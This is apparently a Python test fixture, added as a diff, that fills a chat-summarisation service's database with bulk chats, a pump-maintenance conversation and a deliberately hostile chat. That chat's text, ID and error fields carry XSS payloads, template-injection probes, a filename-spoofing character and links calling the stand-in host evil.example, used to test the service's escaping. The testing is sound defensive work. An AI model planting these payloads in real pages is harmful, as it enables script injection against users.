@@ -1,0 +1,116 @@
+"""A database as operators have it: 5,000 chats, a large tree, dead work, a chat to correct, and a hostile one.
+
+All through the service's own ways, but for the mass and the tree, which are SQL (`benchmarks.operated`).
+"""
+
+from dataclasses import dataclass
+
+import asyncpg
+import httpx
+
+from benchmarks import operated
+from service.usecases.compress import compress
+from service.web.words import segment
+from tests.builders import called, returned, said
+from tests.conftest import Service
+from tests.fakes.scripted_llm import Say, scripted_llm
+from tests.service.harness import Harness
+from tests.service.talk import Talk, prose, run_sql
+
+MANY = 5000
+TREE = "3f0c7a52-6d1e-4a8b-9b57-0d5c1e8a2f41"
+PUMPS = "8f2e41c0-51d7-4c0a-a6f5-2f9d3b7c6e10"
+HOSTILE = (
+    '<script>window.hit = 1; fetch("https://evil.example/")</script>"><img src=x onerror="window.hit=2">'
+    "'-alert(1)-'{{7*7}}${7*7}\u202egnp.exe\u2066 [a](javascript:alert(2)) <a href=javascript:alert(3)>x</a>"
+    "<style>*{display:none}</style><form action=//evil.example><base href=//evil.example>&lt;b&gt;</textarea>"
+    '<div hx-get="//evil.example" hx-trigger="load" hx-on:load="window.hit=3"></div>'
+)
+# An id is a part of the address: 200 characters at most, no control characters, no slash.
+HOSTILE_ID = '"><img src=x onerror="window.hit=4">{{7*7}}\u202e%2e%2e?a#b&c=<script>hit=5'
+_QUESTIONS = (
+    "Which pumps of hall 3 are due for an inspection this week?",
+    "P-7 is loud again. What did the last three reports say about its vibration?",
+    "Which bearing did we order for it, and when does it arrive?",
+    "Please keep all figures in mm/s, not in inches.",
+    "Compare its temperature with that of P-5 since Monday.",
+    "Who signed the last inspection of P-9?",
+    "We decided to swap P-7 for the spare one on Thursday. Note that.",
+    "What has to be ordered before the shutdown on 14 March?",
+)
+_NARRATIVE = "\n".join(
+    (
+        "## Goal",
+        "- Hall 3 runs until the shutdown on 14 March without an unplanned stop.",
+        "## Current state",
+        "- P-7 is above its limit since Monday; the spare pump is ready.",
+        "- The reports on P-5 and P-9 show nothing unusual.",
+        "## Open questions",
+        "- Whether the bearing of P-7 arrives before Thursday.",
+    )
+)
+
+
+@dataclass(frozen=True)
+class Filled:
+    """The newest checkpoints of the chats to look at, and the path of the hostile chat's page."""
+
+    tree: int
+    pumps: int
+    hostile: int
+    hostile_at: str
+
+
+async def fill(service: Service) -> Filled:
+    """Fills an empty service."""
+    async with scripted_llm(Say(_NARRATIVE)) as llm, httpx.AsyncClient() as http:
+        harness = Harness(service, Talk(service.as_filter), llm, http)
+        pumps = await _grown(harness, Talk(service.as_filter, PUMPS, model="llama3.3:70b", user="anna"), _QUESTIONS)
+        llm.default = Say(f"## Goal\n- {HOSTILE}\n## Current state\n- {HOSTILE}")
+        asked = tuple(f"{HOSTILE} Number {number}." for number in range(8))
+        hostile = await _grown(
+            harness, Talk(service.as_filter, "hostile", user=HOSTILE[:200], model=HOSTILE[:200]), asked
+        )
+    pinned = {"narrative": f"## Goal\n- {HOSTILE}", "pins": [{"kind": "goal", "text": HOSTILE}]}
+    patched = await service.as_operator.patch(f"/v1/chats/hostile/checkpoints/{hostile}", json=pinned)
+    hostile = patched.json()["checkpoint"]["id"]
+    await run_sql(
+        service.runtime,
+        "update chats set external_id = :id, last_error = :text, dead_at = now(), due_at = null, attempts = 5"
+        " where external_id = 'hostile'",
+        id=HOSTILE_ID,
+        text=f"{HOSTILE}\x1b[31m\x07",
+    )
+    whose = "chat_id = (select id from chats where external_id = :id)"
+    await run_sql(service.runtime, f"update runs set reason = :text where {whose}", id=HOSTILE_ID, text=HOSTILE)
+    await run_sql(service.runtime, "update audit set chat = :id where chat = 'hostile'", id=HOSTILE_ID)
+    url = service.runtime.urls.database.replace("+asyncpg", "")
+    connection = await asyncpg.connect(url)
+    try:
+        await operated.many(connection, 1, MANY)
+        tree = await operated.tree(connection, 1, TREE)
+        await connection.execute("analyze")
+    finally:
+        await connection.close()
+    return Filled(tree, pumps, hostile, f"/chats/{segment(HOSTILE_ID)}")
+
+
+async def _grown(harness: Harness, talk: Talk, questions: tuple[str, ...]) -> int:
+    """A chat with questions, answers and calls of tools, summarised; returns its newest checkpoint."""
+    leaf: str | None = None
+    for number in range(16):
+        question = questions[number % len(questions)]
+        leaf = talk.add(f"{talk.chat[:4]}-q{number}", leaf, content=question)
+        call = [
+            called(f"c{number}", "pump_report", f'{{"pump": "P-{number % 9 + 1}"}}'),
+            returned(f"c{number}", question),
+        ]
+        answer = said(prose(500, f"a{number}"))
+        leaf = talk.add(f"{talk.chat[:4]}-a{number}", leaf, "assistant", "-", output=[*call, answer])
+    assert leaf
+    await talk.ingest(leaf)
+    while await compress(harness.worker_context()):
+        pass
+    made = (await harness.service.as_operator.get(f"/v1/chats/{talk.chat}/checkpoints")).json()
+    newest: int = made[-1]["id"]
+    return newest
